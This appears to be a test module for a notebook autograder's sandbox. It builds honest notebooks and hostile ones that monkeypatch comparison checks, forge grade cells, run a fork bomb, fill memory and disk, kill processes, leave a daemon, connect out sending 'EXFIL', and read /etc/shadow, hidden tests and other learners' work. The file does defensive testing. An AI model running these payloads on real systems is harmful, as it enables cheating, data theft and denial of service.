"""Cheats, escapes and resource exhaustion: hostile notebooks for exercise 03_qkv, with honest controls.

The hostile ones cheat the checks (patched comparisons and builtins, IPython hooks, lying
objects, forged, duplicated, edited or deleted grade cells), try to get out of the sandbox or
read and write what is not theirs (network, secrets, the gradebook, other learners, killing
processes, a daemon left behind), or exhaust it (exit, crash, endless loops, memory, forks,
disk, output, oversized replies, notebooks slow to parse); malformed, truncated and oversized
files sit beside them. The honest ones (the reference, the stub, notebooks saved by other
front ends, helper cells, warnings) must keep their marks among them.

`build(ctx)` adds them to the one batch that `conftest.batch` grades (see tests/attacks/__init__.py).
"""

from __future__ import annotations

import copy
import hashlib
import json
import socket
import threading
from pathlib import Path

import nbformat

from autograder.core.assignments import ROOT, get_assignment
from autograder.isolation.uids import SANDBOX_UIDS
from conftest import add_cell, learner_notebook, reference_notebook

KEY = "03_qkv"
FULL = 26.0
MARKER = "hostile-marker-7f3a9c"
SOLUTIONS = get_assignment(KEY).solutions
HIDDEN = get_assignment(KEY).hidden_tests
HIDDEN_TEXT = '"""Hidden tests for exercise 03_qkv'  # first line of the hidden tests
SOLUTION_TEXT = "Reference solutions for exercise 03_qkv"
OTHER_TEXT = "OTHER-LEARNER-SECRET-ANSWER-0451"
CANARY_TEXT = "HOST-CANARY-SECRET-9931"


def sha(path: Path) -> str:
    """The SHA-256 of a file's bytes (a protected file must keep it)."""
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _stub():
    return learner_notebook(KEY)


def _ref():
    return reference_notebook(KEY)


def _grade_cell(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


# --- the hostile and honest notebooks -------------------------------------------------------

WRONG_ANSWERS = '''
def softmax(x, axis=-1):
    return np.full_like(x, 7.0)
def attention_numpy(q, k, v, mask=None):
    return np.full_like(q, 7.0), np.full_like(q, 7.0)
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    w = torch.full(q.shape[:-1] + (k.shape[-2],), 7.0, dtype=q.dtype)
    return w @ v, w
def padding_mask(tokens, pad_id=0):
    return torch.zeros(tokens.shape[0], 1, 1, tokens.shape[1], dtype=torch.bool)
def causal_mask(size, device=None):
    return torch.zeros(size, size, dtype=torch.bool)
'''

PATCH_COMPARISONS = '''
import numpy as np, torch, numpy.testing, torch.testing
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda *a, **k: True
''' + WRONG_ANSWERS

PATCH_BUILTINS = '''
import builtins, math, operator, sys
math.isclose = lambda *a, **k: True
operator.eq = lambda *a, **k: True
sys.modules["numpy"].isclose = lambda *a, **k: True
builtins.isinstance = lambda *a, **k: True
builtins.len = lambda *a, **k: 2
''' + WRONG_ANSWERS

IPYTHON_HOOKS = '''
import sys, builtins, inspect, gc
def _hook():
    try:
        _ip = get_ipython()
        _ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
        _ip.events.register("pre_run_cell", lambda info: print(info.raw_cell))
    except NameError:
        pass
    sys.settrace(lambda *a: None)
_ = _hook()
_orig_import = builtins.__import__
def _spy(name, *a, **k):
    print("IMPORT", name, file=sys.stderr)
    return _orig_import(name, *a, **k)
builtins.__import__ = _spy
def softmax(x, axis=-1):
    seen = [repr(f.frame.f_code.co_filename) for f in inspect.stack()]
    seen += [repr(m) for m in list(sys.modules) if "hidden" in m or "solution" in m]
    raise ValueError("SEEN " + " ".join(seen))
'''

TENSOR_SUBCLASS = '''
class Sneaky(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    z = torch.zeros(q.shape[:-1] + (k.shape[-2],), dtype=q.dtype)
    return (z @ v).as_subclass(Sneaky), z.as_subclass(Sneaky)
def causal_mask(size, device=None):
    return torch.zeros(size, size, dtype=torch.bool).as_subclass(Sneaky)
def padding_mask(tokens, pad_id=0):
    return torch.zeros(tokens.shape[0], 1, 1, tokens.shape[1], dtype=torch.bool).as_subclass(Sneaky)
'''

LYING_EQ = '''
class Liar:
    shape = (2, 3)
    dtype = "float32"
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter([Liar(), Liar()])
    def __getitem__(self, i): return Liar()
    def __array__(self, *a, **k): return np.ones(1)
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/PWNED-%s" % "''' + MARKER + '''",))
def softmax(x, axis=-1): return Liar()
def attention_numpy(q, k, v, mask=None): return Liar()
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0): return (Liar(), Liar())
def padding_mask(tokens, pad_id=0): return Liar()
def causal_mask(size, device=None): return Liar()
'''

SYS_EXIT_IN_FUNCTION = '''
def softmax(x, axis=-1):
    import sys
    sys.exit(3)
'''

SEGFAULT = '''
def padding_mask(tokens, pad_id=0):
    import ctypes
    ctypes.string_at(0)
'''

# Every signal but SIGKILL ignored, then a call that never returns. It waits rather than spins:
# the signals are what it tests, and `endless_loop_at_load` is the loop that burns a core (two
# calls of this one cut at the call limit burned 40 CPU seconds of the suite for nothing more).
SIGINT_LOOP = '''
def causal_mask(size, device=None):
    import signal, time
    for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
        signal.signal(s, signal.SIG_IGN)
    while True:
        time.sleep(1)
'''

MEMORY_HOG = '''
def _one():
    try:
        return bytearray(64 * 2**30)
    except MemoryError:
        return None
_hog = _one()
_hogs = [bytearray(2**28) for _ in range(64)]
'''

FORK_BOMB = '''
import os, time
def _bomb():
    n = 0
    for _ in range(100000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        n += 1
    return n
_forked = _bomb()
'''

DISK_FILL = '''
import os
def _fill(path):
    try:
        with open(path, "wb") as f:
            for _ in range(4096):
                f.write(b"\\0" * 2**20)
    except OSError as e:
        return str(e)
_errs = [_fill("/tmp/fill.bin"), _fill(os.path.expanduser("~/fill-home.bin")), _fill("fill-cwd.bin")]
_errs += [_fill(f"/tmp/more{i}.bin") for i in range(8)]
'''

HUGE_OUTPUT = '''
import sys
_ = sys.stdout.write("A" * 50_000_000)
def _spam():
    for _ in range(200):
        print("C" * 100_000, flush=True)
_ = _spam()
_ = sys.stderr.write("B" * 50_000_000)
'''

NETWORK = '''
import socket
def _net():
    res = []
    for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"EXFIL")
            res.append("connected")
        except OSError as e:
            res.append(f"{{type(e).__name__}}:{{e.errno}}")
    return res
_res = _net()
def softmax(x, axis=-1):
    raise ValueError("NET " + " ".join(_res))
'''

READ_SECRETS = '''
def _read(p):
    try:
        with open(p, errors="replace") as f:
            return f.read()[:{n}]
    except Exception as e:
        return type(e).__name__
_paths = {paths!r}
def softmax(x, axis=-1):
    raise ValueError("READ " + " | ".join(_read(p) for p in _paths))
_loot = [_read(p) for p in _paths]
'''

WRITE_FILES = '''
import os
def _vandal():
    done = []
    for p in {paths!r}:
        try:
            with open(p, "ab") as f:
                f.write(b"PWNED")
            done.append("wrote " + p)
        except Exception as e:
            done.append(type(e).__name__)
        try:
            os.remove(p)
            done.append("removed " + p)
        except Exception as e:
            done.append(type(e).__name__)
    return done
_done = _vandal()
def softmax(x, axis=-1):
    raise ValueError("WRITE " + " ".join(_done))
'''

KILL_ALL = '''
import os, signal
def _killall():
    if os.getuid() == 0:  # only ever meant to run sandboxed
        return
    for target in (-1, os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
_ = _killall()
'''

ESCAPE_DAEMON = '''
import os, subprocess, sys
def _escape():
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{marker}"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{marker}"])
        os._exit(0)
_ = _escape()
'''

OVERSIZED_REPLY = '''
def softmax(x, axis=-1):
    return np.zeros(2**26)
def attention_numpy(q, k, v, mask=None):
    r = []
    for _ in range(5000):
        r = [r]
    return r, r
'''

WARNINGS = '''
import sys, warnings
_plain_softmax = softmax
def softmax(x, axis=-1):
    warnings.warn("this is only a warning", UserWarning)
    print("debug: softmax called", file=sys.stderr)
    print("debug: on stdout")
    return _plain_softmax(x, axis=axis)
warnings.warn("a warning at load time", DeprecationWarning)
print("a line on stderr at load time", file=sys.stderr)
'''

EINSUM_FLOAT64 = '''
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    qd, kd, vd = q.double(), k.double(), v.double()
    scores = torch.einsum("...qd,...kd->...qk", qd, kd) / math.sqrt(q.shape[-1])
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    w = torch.softmax(scores, dim=-1).nan_to_num(0.0)
    if mask is not None:
        w = w.masked_fill(~mask, 0.0)
    w = w.to(q.dtype)
    if dropout_p > 0.0:
        w = F.dropout(w, p=dropout_p)
    return torch.einsum("...qk,...kd->...qd", w, v), w
def softmax(x, axis=-1):
    e = np.exp(x.astype(np.float64) - x.max(axis=axis, keepdims=True))
    return (e / e.sum(axis=axis, keepdims=True)).astype(x.dtype)
'''

HELPER_CELL = '''
def _my_scale(q):
    return 1.0 / math.sqrt(q.shape[-1])

def _my_softmax_last(scores):
    return torch.softmax(scores, dim=-1)
'''

HELPER_USER = '''
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    scores = (q @ k.transpose(-2, -1)) * _my_scale(q)
    if mask is not None:
        scores = scores.masked_fill(~mask, torch.finfo(scores.dtype).min)
    weights = _my_softmax_last(scores)
    if mask is not None:
        weights = weights.masked_fill(~mask, 0.0)
    if dropout_p > 0.0:
        weights = F.dropout(weights, p=dropout_p)
    return weights @ v, weights
'''


def _flavour(nb, flavour: str) -> dict:
    """The reference notebook as saved by another front end (metadata only differs)."""
    d = json.loads(nbformat.writes(nb))
    if flavour == "jupyterlab":
        d["metadata"]["kernelspec"] = {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}
        d["metadata"]["language_info"] = {"codemirror_mode": {"name": "ipython", "version": 3}, "file_extension": ".py",
                                          "mimetype": "text/x-python", "name": "python", "nbconvert_exporter": "python",
                                          "pygments_lexer": "ipython3", "version": "3.11.7"}
        for i, c in enumerate(d["cells"]):
            if c["cell_type"] == "code":
                c["execution_count"] = i
                c["outputs"] = [{"name": "stdout", "output_type": "stream", "text": ["ran\n"]}]
                c["metadata"]["tags"] = []
                c["metadata"]["editable"] = True
    elif flavour == "notebook7":
        d["metadata"]["toc-autonumbering"] = True
        for c in d["cells"]:
            c["metadata"]["jp-MarkdownHeadingCollapsed"] = False
            c["metadata"]["scrolled"] = True
            if isinstance(c["source"], str):
                c["source"] = c["source"].splitlines(keepends=True)
    elif flavour == "vscode":
        d["metadata"]["vscode"] = {"interpreter": {"hash": "ab" * 32}}
        d["metadata"]["language_info"] = {"name": "python", "version": "3.11.7"}
        for c in d["cells"]:
            c.pop("id", None)
            if c["cell_type"] == "code":
                c["metadata"]["vscode"] = {"languageId": "python"}
        d["nbformat_minor"] = 2
    elif flavour == "colab":
        d["metadata"] = {"colab": {"provenance": [], "toc_visible": True}, "kernelspec": {"name": "python3",
                         "display_name": "Python 3"}, "language_info": {"name": "python"}, "accelerator": "GPU"}
        d["nbformat_minor"] = 0
        for i, c in enumerate(d["cells"]):
            c.pop("id", None)
            c["metadata"] = {"id": f"cell{i:04x}", "colab": {"base_uri": "https://localhost:8080/"},
                             "outputId": f"{i:08x}-0000"}  # Colab drops the nbgrader metadata
            if c["cell_type"] == "code":
                c["source"] = c["source"] if isinstance(c["source"], str) else "".join(c["source"])
    return d


def _with_raw_cell(nb, source: str) -> dict:
    """The notebook as JSON with one more code cell whose source is one string (as compact as JSON gets)."""
    d = json.loads(nbformat.writes(nb))
    d["cells"].append({"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source})
    return d


class _Listener:
    """A TCP server on the host's loopback: a sandboxed learner must never reach it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(100) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


def procs_left() -> list[str]:
    """Processes still running after the batch: any of a sandbox uid, or whose command line carries MARKER."""
    found = []
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            cmd = (d / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            status = (d / "status").read_text()
        except OSError:
            continue
        uid_line = next((ln for ln in status.splitlines() if ln.startswith("Uid:")), "")
        real_uid = uid_line.split()[1:2]
        if MARKER in cmd or (real_uid and int(real_uid[0]) in SANDBOX_UIDS):
            found.append(f"{d.name}: {cmd[:200]}")
    return found


def build(ctx) -> None:
    """Round one's honest and hostile notebooks, and malformed files."""
    base, subs = ctx.base, ctx.subs
    canary = base / "canary.txt"
    canary.write_text(CANARY_TEXT)
    canary.chmod(0o644)
    other = subs / "zz_other.ipynb"
    listener = _Listener()
    ctx.extra["listener"] = listener
    ctx.cleanups.append(listener.close)
    nbs = ctx.nbs

    # honest submissions
    nbs["honest_reference"] = _ref()
    nbs["honest_stub"] = _stub()
    nbs["honest_warnings"] = add_cell(_ref(), WARNINGS)
    nbs["honest_einsum_float64"] = add_cell(_ref(), EINSUM_FLOAT64)
    nb = add_cell(_ref(), HELPER_CELL, after_grade_id="setup")
    nbs["honest_helper_cell"] = add_cell(nb, HELPER_USER)
    for fl in ("jupyterlab", "notebook7", "vscode", "colab"):
        nbs[f"honest_{fl}"] = _flavour(_ref(), fl)
    o = _ref()
    o.cells.append(nbformat.v4.new_markdown_cell(OTHER_TEXT))
    nbs["zz_other"] = o

    # hostile submissions
    nbs["patch_comparisons"] = add_cell(_stub(), PATCH_COMPARISONS)
    nbs["patch_builtins"] = add_cell(_stub(), PATCH_BUILTINS)
    nbs["ipython_hooks"] = add_cell(_stub(), IPYTHON_HOOKS)
    nbs["tensor_subclass"] = add_cell(_stub(), TENSOR_SUBCLASS)
    nbs["lying_eq"] = add_cell(_stub(), LYING_EQ)
    nb = _ref()
    nb.cells.append(nbformat.v4.new_code_cell("assert True", metadata={"nbgrader": {
        "grade": True, "grade_id": "test_bonus", "locked": True, "points": 100, "schema_version": 3, "solution": False}}))
    nbs["forged_grade_cell"] = nb
    nb = _ref()
    nb.cells.append(copy.deepcopy(_grade_cell(nb, "test_softmax")))
    nbs["duplicated_grade_cell"] = nb
    nb = _stub()
    cell = _grade_cell(nb, "test_softmax")
    cell.source = "pass"
    cell.metadata["nbgrader"]["points"] = 1000
    nbs["edited_locked_cell"] = nb
    nb = _stub()
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    nbs["deleted_grade_cells"] = nb
    nbs["os_exit_at_load"] = add_cell(_stub(), "import os\n_ = os._exit(0)")
    nbs["sys_exit_in_function"] = add_cell(_ref(), SYS_EXIT_IN_FUNCTION)
    nbs["segfault"] = add_cell(_ref(), SEGFAULT)
    nbs["endless_loop_at_load"] = add_cell(_stub(), "def _spin():\n    while True:\n        pass\n_ = _spin()\n")
    nbs["sigint_ignored_loop"] = add_cell(_ref(), SIGINT_LOOP)
    nbs["memory_hog"] = add_cell(_ref(), MEMORY_HOG)
    nbs["fork_bomb"] = add_cell(_ref(), FORK_BOMB)
    nbs["disk_fill"] = add_cell(_ref(), DISK_FILL)
    nbs["huge_output"] = add_cell(_ref(), HUGE_OUTPUT)
    nbs["network"] = add_cell(_stub(), NETWORK.format(port=listener.port))
    nbs["read_hidden_and_solutions"] = add_cell(_stub(), READ_SECRETS.format(
        n=200, paths=[str(HIDDEN), str(SOLUTIONS), str(ROOT / "autograder" / "hidden" / "support.py")]))
    nbs["read_gradebook_and_others"] = add_cell(_stub(), READ_SECRETS.format(
        n=120, paths=[str(ctx.gradebook), str(other), str(canary), "/etc/shadow"]))
    nbs["write_gradebook_and_files"] = add_cell(_stub(), WRITE_FILES.format(
        paths=[str(ctx.gradebook), str(other), str(canary), str(SOLUTIONS), str(HIDDEN)]))
    nbs["kill_everything"] = add_cell(_ref(), KILL_ALL)
    nbs["escape_as_daemon"] = add_cell(_ref(), ESCAPE_DAEMON.format(marker=MARKER))
    nbs["oversized_reply"] = add_cell(_stub(), OVERSIZED_REPLY)

    # built to be slow or costly to process, just under the size limit (20 MiB)
    nbs["slow_parse_deep_nesting"] = _with_raw_cell(_ref(), "x = " + "(" * 200_000 + "1" + ")" * 200_000 + "\n")
    nbs["slow_parse_long_expression"] = _with_raw_cell(_ref(), "x = " + "1+" * 4_000_000 + "1\n")
    nbs["slow_parse_many_statements"] = _with_raw_cell(_ref(), "a=1\n" * (19 * 2**20 // 5))
    bomb = json.loads(nbformat.writes(_ref()))
    bomb["metadata"]["bomb"] = [[]] * 3_000_000
    nbs["json_container_bomb"] = bomb

    (subs / "malformed_json.ipynb").write_text('{"cells": [ {"cell_type": "code", oops', encoding="utf-8")
    full = nbformat.writes(_ref()).encode()
    (subs / "truncated.ipynb").write_bytes(full[: len(full) // 2])
    with open(subs / "oversized.ipynb", "wb") as f:
        f.write(full.rstrip()[:-1] + b', "padding": "' + b"x" * (21 * 2**20) + b'"}\n')
    ctx.protected += [SOLUTIONS, HIDDEN, ROOT / "autograder" / "hidden" / "support.py", canary, other]
